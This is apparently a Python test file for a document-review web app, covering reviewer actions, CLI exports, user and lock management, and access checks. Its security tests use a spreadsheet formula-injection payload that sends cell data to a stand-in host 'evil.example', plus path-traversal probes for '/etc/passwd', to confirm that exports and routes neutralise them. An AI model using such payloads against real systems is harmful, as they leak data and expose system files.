"""The review actions, re-validation, exports, access checks and commands, on a store
filled by a real pipeline run (no browser here)."""
from __future__ import annotations

import json
import os
import re
import subprocess
import sys

import pytest
from sqlalchemy import select, update

from review import actions
from review.users import add_user, assign, authenticate
from tests.review.conftest import PASSWORD
from tests.review.corpus import BATCH, populate
from tests.review.helpers import (a_failing_sum, field, flags_of, open_flags,
                                  split_money_in_a_rate_rule)
from workers.export import read_csv
from store.models import (Document, FlagState, FormRow, PageRow, Resolution, Status, User)

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


@pytest.fixture
def store(corpus_dirs, tmp_path):
    corpus, _data_dir = corpus_dirs
    store, _ids = populate(f'sqlite:///{tmp_path}/store.db', corpus)
    with store.session(write=True) as s:
        for name, role in (('ana', 'reviewer'), ('ben', 'reviewer'), ('sen', 'senior')):
            add_user(s, name, PASSWORD, role)
        assign(s, 'ana', BATCH)
        assign(s, 'ben', BATCH)
    yield store
    store.dispose()


def act(store, user_name, form_id, path, action, value=None):
    with store.session(write=True) as s:
        user = s.scalar(select(User).where(User.name == user_name))
        return actions.act(s, user, s.get(FormRow, form_id), path, action, value)


def test_accepted_inconsistency_stays_accepted_and_cleared_flags_come_back(store):
    form_id, detail, fields = a_failing_sum(store, 'weight')
    act(store, 'ana', form_id, 'total.weight', 'accept')
    assert all((f.status, f.resolution) == (FlagState.RESOLVED, Resolution.ACCEPTED)
               for f in flags_of(store, form_id, detail=detail))

    # Another field changes: the form is checked again, the accepted rule stays accepted.
    score_form, score_detail, _ = a_failing_sum(store, 'score')
    assert score_form == form_id
    weight = field(store, form_id, 'indicators.0.weight').value
    result = act(store, 'ana', form_id, 'indicators.0.score', 'correct', str(int(weight) + 5))
    assert any('exceeds weight' in line for line in result.changes)      # a new rule fails
    assert all(f.status == FlagState.RESOLVED for f in flags_of(store, form_id, detail=detail))
    over = [f for f in flags_of(store, form_id, 'indicators.0.score') if 'exceeds weight' in f.detail]
    assert [f.status for f in over] == [FlagState.OPEN]
    # The score sum's detail changed with the value: old flags cleared, new ones opened.
    assert all(f.status == FlagState.RESOLVED and f.resolution == Resolution.CLEARED
               for f in flags_of(store, form_id, detail=score_detail))

    # Back to the printed value: the new flags clear, the old sum flags open again.
    act(store, 'ana', form_id, 'indicators.0.score', 'correct',
        field(store, form_id, 'indicators.0.score').extracted_value)
    over = [f for f in flags_of(store, form_id, 'indicators.0.score') if 'exceeds weight' in f.detail]
    assert over and all((f.status, f.resolution) == (FlagState.RESOLVED, Resolution.CLEARED) for f in over)
    assert all(f.status == FlagState.OPEN for f in flags_of(store, form_id, detail=score_detail))


def test_a_reviewed_field_is_not_flagged_again_for_how_it_was_read(store):
    split = next(f for f in open_flags(store) if f.reason == 'split_number'
                 and not actions.is_money(f.field))
    act(store, 'ana', split.form_id, split.field, 'accept')
    # Any later change re-validates the form; the split flag is not raised again.
    other = next(f for f in open_flags(store, split.form_id) if f.field != split.field
                 and not actions.is_money(f.field))
    act(store, 'ana', other.form_id, other.field, 'correct', '—')
    flags = flags_of(store, split.form_id, split.field)
    assert [(f.reason, f.status, f.resolution) for f in flags if f.reason == 'split_number'] == [
        ('split_number', FlagState.RESOLVED, Resolution.ACCEPTED)]
    assert not [f for f in flags_of(store, other.form_id, other.field)
                if f.reason in ('low_confidence', 'split_number') and f.status == FlagState.OPEN]


def test_stale_pages_and_juniors_cannot_overwrite(store):
    form_id, path, _detail = split_money_in_a_rate_rule(store)
    with pytest.raises(actions.ActionError, match='changed since'):
        with store.session(write=True) as s:
            user = s.scalar(select(User).where(User.name == 'ana'))
            actions.act(s, user, s.get(FormRow, form_id), path, 'accept', None, expected='something else')
    act(store, 'ana', form_id, path, 'correct', '1')
    act(store, 'ben', form_id, path, 'correct', '2')
    with pytest.raises(actions.ActionError, match='only a senior'):
        act(store, 'ben', form_id, path, 'decide', '2')
    assert act(store, 'sen', form_id, path, 'decide', '3').kind == 'decided'
    assert field(store, form_id, path).value == '3'


def _cli(*args, env=None, stdin=None):
    return subprocess.run([sys.executable, '-m', 'perf_extract', *args], cwd=ROOT, input=stdin,
                          capture_output=True, text=True, timeout=120,
                          env=dict(os.environ, PYTHONPATH=ROOT, **(env or {})))


def test_cli_export_has_agreed_values_and_no_pending_entry(store, tmp_path):
    form_id, path, detail = split_money_in_a_rate_rule(store)
    before = field(store, form_id, path).value
    with store.session() as s:
        form = s.get(FormRow, form_id)
        stem, index = os.path.splitext(form.document.file_name)[0], form.form_index
    env = {'EXTRACTOR_DATABASE_URL': store.url, 'EXTRACTOR_DATA_DIR': str(tmp_path / 'var')}

    runs = iter(range(100))

    def exported():
        out = tmp_path / f'out-{next(runs)}'
        done = _cli('export', BATCH, '--format', 'json', '--out', str(out), env=env)
        assert done.returncode == 0, done.stderr
        with open(out / f'{stem}.json', encoding='utf-8') as fh:
            return json.load(fh)

    act(store, 'ana', form_id, path, 'correct', '76.47')
    document = exported()
    assert document['forms'][index]['funds'][0][path.rsplit('.', 1)[1]] == before
    assert any(f['field'] == path and f['reason'] == 'split_number' for f in document['review'])
    act(store, 'ben', form_id, path, 'correct', '76.47')
    document = exported()
    assert document['forms'][index]['funds'][0][path.rsplit('.', 1)[1]] == '76.47'
    assert not any(f['field'] == path or f['detail'] == detail for f in document['review'])

    done = _cli('export', BATCH, '--format', 'csv', '--out', str(tmp_path / 'csv'), env=env)
    assert done.returncode == 0, done.stderr
    rows = read_csv(str(tmp_path / 'csv' / f'{BATCH}.csv'))   # Chinese headers, keyed back
    row = next(r for r in rows if r['file'] == f'{stem}.pdf' and r['row'] == 'funds'
               and r['row_index'] == '0')
    assert row[path.rsplit('.', 1)[1]] == '76.47'


def test_users_command(store):
    url = store.url
    done = _cli('users', 'add', 'carol', '--role', 'senior', '--password-stdin', '--db', url,
                stdin='a long passphrase\n')
    assert done.returncode == 0, done.stderr
    again = _cli('users', 'add', 'carol', '--password-stdin', '--db', url, stdin='another passphrase\n')
    assert again.returncode == 1 and 'exists already' in again.stderr
    short = _cli('users', 'add', 'dave', '--password-stdin', '--db', url, stdin='short\n')
    assert short.returncode == 1 and 'at least' in short.stderr
    listing = _cli('users', 'list', '--db', url)
    assert re.search(r'^carol\tsenior$', listing.stdout, re.M)
    # Roles, batches and locks from the command line too.
    assert _cli('users', 'add', 'dan', '--password-stdin', '--db', url, stdin='a long passphrase\n').returncode == 0
    given = _cli('users', 'assign', 'dan', BATCH, '--db', url)
    assert given.returncode == 0 and f'batch {BATCH} assigned to dan' in given.stdout
    assert re.search(rf'^dan\treviewer\t{BATCH}$', _cli('users', 'list', '--db', url).stdout, re.M)
    wrong = _cli('users', 'assign', 'dan', 'no-such-batch', '--db', url)
    assert wrong.returncode == 1 and "no batch 'no-such-batch'" in wrong.stderr and 'Traceback' not in wrong.stderr
    assert _cli('users', 'role', 'dan', 'admin', '--db', url).returncode == 0
    from review import throttle
    from store.models import utcnow
    with store.session(write=True) as s:
        while throttle.take_account_try(s, 'dan', utcnow()):
            pass
        assert throttle.is_locked(s, 'dan')
    unlock = _cli('users', 'unlock', 'dan', '--db', url)
    assert unlock.returncode == 0 and 'dan unlocked' in unlock.stdout
    with store.session() as s:
        assert not throttle.is_locked(s, 'dan')
        assert s.scalar(select(User.role).where(User.name == 'dan')) == 'admin'
    with store.session() as s:
        user = s.scalar(select(User).where(User.name == 'carol'))
        assert user.password_hash.startswith('$argon2id$') and 'passphrase' not in user.password_hash
        assert authenticate(s, 'carol', 'a long passphrase') is not None
        assert authenticate(s, 'carol', 'a long passphrasE') is None
        assert authenticate(s, 'nobody', 'a long passphrase') is None


def test_images_only_of_visible_documents_and_only_from_the_page_folder(store, corpus_dirs):
    from review.app import create_app
    _corpus, data_dir = corpus_dirs
    app = create_app(store.url, data_dir, secret_key='k')
    app.config['WTF_CSRF_ENABLED'] = False
    client = app.test_client()
    assert client.post('/login', data={'name': 'ana', 'password': PASSWORD}).status_code == 302
    with store.session() as s:
        pages = s.scalars(select(PageRow).order_by(PageRow.id)).all()
        first, second = pages[0], pages[1]
    assert client.get(f'/pages/{first.id}/image').mimetype == 'image/png'
    with store.session(write=True) as s:
        s.execute(update(Document).where(Document.id == first.document_id).values(status=Status.FAILED))
        s.execute(update(PageRow).where(PageRow.id == second.id).values(image_path='/etc/passwd'))
    assert client.get(f'/pages/{first.id}/image').status_code == 404          # not visible
    assert client.get(f'/pages/{second.id}/image').status_code == 404         # outside pages/
    assert client.get('/pages/999999/image').status_code == 404
    assert client.get('/forms/1/fields/..%2F..%2Fetc%2Fpasswd').status_code == 404
    assert client.get('/forms/1/fields/project_name').status_code == 404      # document 1 failed now


def test_a_message_is_not_overwritten_by_a_response_that_changed_nothing(store, corpus_dirs):
    """An image requested with the session as it was before a form was sent answers with
    no cookie, so it cannot put back a session without the form's message."""
    from review.app import create_app
    _corpus, data_dir = corpus_dirs
    app = create_app(store.url, data_dir, secret_key='k')
    app.config['WTF_CSRF_ENABLED'] = False
    client = app.test_client()
    assert client.post('/login', data={'name': 'ana', 'password': PASSWORD}).status_code == 302
    before = client.get_cookie('review_session').value
    with store.session() as s:
        form = s.scalars(select(FormRow).order_by(FormRow.id)).first()
        page_id = s.scalars(select(PageRow.id).where(PageRow.document_id == form.document_id)).first()
    sent = client.post(f'/forms/{form.id}/fields/project_name',
                       data={'action': 'correct', 'value': 'x', 'expected': field(store, form.id, 'project_name').value or ''})
    assert sent.status_code == 302
    in_flight = app.test_client()
    in_flight.set_cookie('review_session', before)
    for path in (f'/pages/{page_id}/image', '/static/review.js', '/favicon.ico'):
        response = in_flight.get(path)
        assert response.status_code in (200, 204) and not response.headers.get_all('Set-Cookie'), path
    assert "project_name: " in client.get(sent.headers['Location']).data.decode()


def test_a_store_of_the_first_revision_is_migrated_with_its_flags(tmp_path):
    from alembic import command
    from sqlalchemy import create_engine, text

    from store.db import _alembic_config, open_store
    url = f'sqlite:///{tmp_path}/old.db'
    engine = create_engine(url)
    with engine.begin() as connection:
        command.upgrade(_alembic_config(connection), '0001')
        connection.execute(text(
            "INSERT INTO documents (sha256, path, file_name, status, submitted_at, updated_at, requeues) "
            "VALUES ('x', '/x.pdf', 'x.pdf', 'extracted', '2026-01-01', '2026-01-01', 0)"))
        connection.execute(text(
            "INSERT INTO flags (document_id, position, form_index, field, reason, detail) VALUES "
            "(1, 0, 0, 'total.score', 'low_confidence', ''), (1, 1, 0, 'funds.0.executed', 'arithmetic', '')"))
    engine.dispose()
    with open_store(url).session() as s:
        rows = s.execute(text('SELECT field, status, rank FROM flags ORDER BY position')).all()
    assert rows == [('total.score', 'open', 2), ('funds.0.executed', 'open', 0)]


def test_document_exports_write_formula_looking_values_as_text(store, corpus_dirs):
    import io

    from openpyxl import load_workbook

    from review.app import create_app
    _corpus, data_dir = corpus_dirs
    hostile = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
    with store.session() as s:
        form = s.scalars(select(FormRow).order_by(FormRow.id)).first()
        form_id, document_id = form.id, form.document_id
    act(store, 'ana', form_id, 'project_name', 'correct', hostile)
    app = create_app(store.url, data_dir, secret_key='k')
    app.config['WTF_CSRF_ENABLED'] = False
    client = app.test_client()
    assert client.post('/login', data={'name': 'ana', 'password': PASSWORD}).status_code == 302
    text = client.get(f'/documents/{document_id}/export/csv').data.decode('utf-8-sig')
    assert "'" + hostile.replace('"', '""') in text
    assert not any(cell.startswith('=') for line in text.splitlines() for cell in line.split(','))
    book = load_workbook(io.BytesIO(client.get(f'/documents/{document_id}/export/xlsx').data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == 's' for c in cells)
